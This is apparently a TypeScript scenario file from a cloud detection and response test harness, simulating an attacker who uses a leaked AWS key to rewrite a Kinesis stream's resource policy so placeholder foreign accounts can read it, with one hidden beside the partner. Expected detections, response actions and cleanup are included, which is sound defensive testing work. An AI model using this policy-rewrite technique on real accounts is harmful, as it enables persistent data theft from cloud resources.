import { DescribeStreamSummaryCommand, PutResourcePolicyCommand } from "@aws-sdk/client-kinesis";
import { attack } from "./attack.ts";
import { leakedKeyInactive } from "./checks.ts";
import { kinesisOf, type LeakedKey, leakKeyOf, removeUser } from "./scene.ts";
import { partnerOnly, policyOf, putPolicy, shareOf, stranger } from "./scene-policies.ts";

export const shareWithStranger = attack<LeakedKey>({
  id: "share-with-stranger",
  title: "The stream is shared with an account of the attacker's",
  story:
    "The attacker needs the key only once: a statement in the stream's own policy lets an account of theirs read it from then on. A second stranger hides beside the partner, in the list that has long been there.",
  attack: ["T1537"],
  prepare: (scene) => leakKeyOf(scene, "deploy-policies"),
  strike: async (scene, { credentials }) => {
    const { arn } = scene.stream;
    const [partner] = partnerOnly(scene).Statement;
    const Policy = JSON.stringify({
      Version: "2012-10-17",
      Statement: [
        { ...partner, Principal: { AWS: [partner?.Principal.AWS, "arn:aws:iam::888888888888:role/reader"] } },
        shareOf(arn, `arn:aws:iam::${stranger}:root`, "kinesis:GetRecords", "kinesis:GetShardIterator"),
      ],
    });
    await kinesisOf(scene, credentials).send(new PutResourcePolicyCommand({ ResourceARN: arn, Policy }));
  },
  expected: {
    detections: ["stream-policy-admits-stranger"],
    outcomes: [
      { action: "deactivate-access-key", type: "verified" },
      { action: "tighten-stream-policy", type: "verified" },
    ],
  },
  again: async (scene, { credentials }) => {
    await kinesisOf(scene, credentials).send(new DescribeStreamSummaryCommand({ StreamName: scene.stream.name }));
  },
  restored: async (scene) =>
    (await policyOf(scene)).includes("111122223333:root") && !/8{12}|9{12}/.test(await policyOf(scene)),
  checks: [leakedKeyInactive],
  mend: (scene) => putPolicy(scene, partnerOnly(scene)),
  cleanUp: removeUser,
});
